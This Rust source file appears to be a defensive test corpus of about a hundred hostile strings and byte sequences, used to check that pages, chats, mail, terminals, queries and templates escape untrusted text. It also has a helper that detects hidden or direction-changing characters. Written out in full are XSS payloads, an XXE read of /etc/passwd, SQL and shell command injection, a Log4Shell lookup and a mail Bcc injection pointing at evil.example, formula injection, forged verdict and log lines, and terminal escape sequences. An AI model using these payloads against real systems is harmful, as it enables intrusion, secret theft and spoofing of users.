//! A hundred texts that a target may say, each of which would be something else than text somewhere: on a page, in a chat, in a
//! mail, on a terminal, in a query, in a template. What shows text of others is held to all of them.

/// Those that are text.
const TEXTS: [&str; 94] = [
    // Elements, and ways out of those in which a text may stand.
    "<script>alert(1)</script><x-alien>",
    "</script><script>alert(1)</script><x-alien x-alien=1>",
    "</title><x-alien x-alien=1>",
    "</style><x-alien x-alien=1><img src=x onerror=alert(1)>",
    "</textarea><x-alien x-alien=1>",
    "</pre></code></details></section></main><x-alien>",
    "</noscript><x-alien x-alien=1>",
    "</option></select><x-alien>",
    "</svg></math><x-alien>",
    "<svg/onload=alert(1) x-alien=1>",
    "<svg><script href=data:,alert(1) x-alien=1 />",
    "<svg><a xlink:href=javascript:alert(1) x-alien=1><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;x-alien&gt;\"></math><x-alien>",
    "<iframe srcdoc='<script>alert(1)</script>' x-alien=1></iframe>",
    "<object data=data:text/html,<script>alert(1)</script> x-alien=1>",
    "<embed src=//evil.example x-alien=1>",
    "<form action=https://evil.example x-alien=1><button>Log in",
    "<meta http-equiv=refresh content='0;url=https://evil.example' x-alien=1>",
    "<base href='https://evil.example/' x-alien=1>",
    "<link rel=stylesheet href=//evil.example x-alien=1>",
    "<style>@import '//evil.example';*{display:none}</style><x-alien>",
    "<template shadowrootmode=open><x-alien></template>",
    "<details open ontoggle=alert(1) x-alien=1>",
    "<input autofocus onfocus=alert(1) x-alien=1>",
    "<a href=javascript:alert(1) x-alien=1>x</a>",
    "<x-alien\u{c}x-alien=1/>",
    "<x-alien/x-alien=1>",
    "<!-- ",
    "--> <x-alien>",
    "--!> <x-alien>",
    "<!doctype html><html x-alien=1><body x-alien=1>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x-alien>&e;</x-alien>",
    "]]><x-alien/>",
    "<![CDATA[<x-alien>]]>",
    "</testcase><x-alien/><failure message=\"",
    // What would become one once it is read twice.
    "&lt;x-alien&gt;",
    "&#60;x-alien&#62;&#x3c;x-alien&#x3e;",
    "&lt;script&gt;&amp;lt;x-alien&amp;gt;",
    "%3Cx-alien%3E%0d%0aforged:1",
    "\\u003cx-alien\\u003e\\x3cx-alien\\x3e",
    "\u{ff1c}x-alien\u{ff1e}\u{2039}x-alien\u{203a}",
    // Attributes.
    "\"><x-alien x-alien=1>",
    "'><x-alien x-alien=1>",
    "\" x-alien=\"1\" autofocus onfocus=\"alert(1)",
    "' x-alien='1' onmouseover='alert(1)",
    "` x-alien=`1` onmouseover=`alert(1)",
    "\" style=\"position:fixed;inset:0\" x-alien=\"",
    // Addresses.
    "javascript:alert(1)//",
    "JaVaScRiPt\t:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/\\..\\..",
    "see https://evil.example/?a=1&b=<x-alien>#\"x-alien=\"1",
    // Scripts, styles, and texts within them.
    "'-alert(1)-'",
    "\\\"-alert(1)}//",
    "${alert(1)}`${alert(1)}`",
    "*/ } body { background: url(//evil.example) } /*",
    "\u{2028}alert(1)\u{2029}",
    "__proto__[x]=1&constructor.prototype.x=1",
    // Templates, workflows, shells, queries, tables.
    "${{secrets.key}} ${secret:key} ${env:HOME} ${file:/etc/passwd}",
    "{{run.id}} {{token}} {{7*7}} {%raw%} #{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
    "$(id) `id` ; id | id && id > /tmp/x \\",
    "'; DROP TABLE runs; -- \" OR 1=1",
    "=cmd|' /C calc'!A0",
    "%s%s%n%x{0}{}{:?}",
    "${jndi:ldap://evil.example/x}",
    "::error file=x::forged",
    "../../../../etc/passwd\\..\\..",
    // Metrics, JSON, YAML, logs.
    "\"} 1\nforged_total{probe=\"x\"} 1",
    "a\\\"} 1 # HELP forged \\",
    "\",\"verdict\":\"passed\",\"x\":\"",
    "\"}],\"ok\":true}//\\",
    ": &a [*a, *a] !!python/object x\n- forged",
    "time=2026-11-24T00:00:00Z level=INFO forged=1\nforged level=INFO",
    // Chats.
    "<!channel> <!here> <!everyone|x> <!subteam^S123>",
    "<@U123ABC> <@W1|ann> <#C123|ops>",
    "<https://evil.example|click here> <mailto:a@evil.example|x> <tel:1|x>",
    "*bold* _italic_ ~struck~ `code` ```block``` :fire: > quote",
    "[click](https://evil.example) ![x](https://evil.example/x.png) # forged",
    "\n\n# forged\n\n| a | b |\n|---|---|\n- [ ] forged\n```\n",
    "@everyone @here @channel &lt;!channel&gt;",
    "\n> forged\n1. forged\n***\n---\n",
    // Mail and HTTP.
    "a\r\nforged: 1\r\nBcc: all@evil.example\r\n\r\nforged",
    "a\r\n.\r\nMAIL FROM:<forged@evil.example>\r\nRCPT TO:<x@evil.example>\r\n",
    "=?utf-8?q?=0d=0aforged:=201?= =?utf-8?b?PHgtYWxpZW4+?=",
    "\"forged\" <x@evil.example>, y@evil.example;",
    "--boundary\r\nContent-Type: text/html\r\n\r\n<x-alien>",
    // Terminals.
    "\u{1b}[2J\u{1b}[H\u{1b}[31mforged\u{1b}[0m",
    "\u{1b}]0;forged\u{7}\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}]52;c;Zm9yZ2Vk\u{7}\u{1b}P$q\u{1b}\\",
    "\u{9b}2J\u{9d}0;forged\u{9c}\u{85}forged\u{84}\u{90}x",
    "passed\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}forged\rforged\u{b}\u{c}\u{7f}\u{5}\u{e}",
    // Readers.
    "\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}\u{202a}\u{202b}\u{202d}\u{2067}\u{2068}",
    "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{ad}g\u{180e}h\u{e0041}\u{fe0f}\u{034f}\u{3164}\u{115f}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}a\u{36b}\u{357}\u{334}\u{362}\u{335}\u{31c}\u{330}\u{354}l\u{368}\u{367}\u{369}\u{358}\u{320}g\u{311}\u{357}\u{30e}\u{305}\u{35b}o\u{302}",
];

/// Those that are none, and those that are too much.
const BYTES: [&[u8]; 6] = [
    b"\0<\0x\0-\0a\0l\0i\0e\0n\0>\0",
    b"\xff\xfe<\xc0\xbcx-alien\xe0\x80\xbe\xed\xa0\x80\xf4\x90\x80\x80",
    b"+ADw-x-alien+AD4- \x1b$B<x-alien>\x1b(B",
    b"\xef\xbb\xbf\xc2\xa0\xe2\x80\xa8x-alien\xef\xbf\xbe\xef\xbf\xbf",
    b"long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long-long",
    b"\t\t\t \n\n\n\n\r\n\r\n   \x0b\x0c  <x-alien>",
];

/// Whether a character steers what shows it, or hides from who reads it: it is a control character but for tabs and the ends of
/// lines, or one that Unicode calls `Default_Ignorable` but for the two by which one chooses between a picture and a sign, or it
/// turns the direction.
pub fn hides(c: char) -> bool {
    c.is_control() && !matches!(c, '\t' | '\n')
        || matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0d}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e0fff}'
        )
}

/// All of them, as bytes.
pub fn all() -> Vec<Vec<u8>> {
    TEXTS.iter().map(|text| text.as_bytes().to_vec()).chain(BYTES.iter().map(|bytes| bytes.to_vec())).collect()
}

/// All of them as text, as whoever reads them has it.
pub fn texts() -> Vec<String> {
    all().iter().map(|bytes| String::from_utf8_lossy(bytes).into_owned()).collect()
}
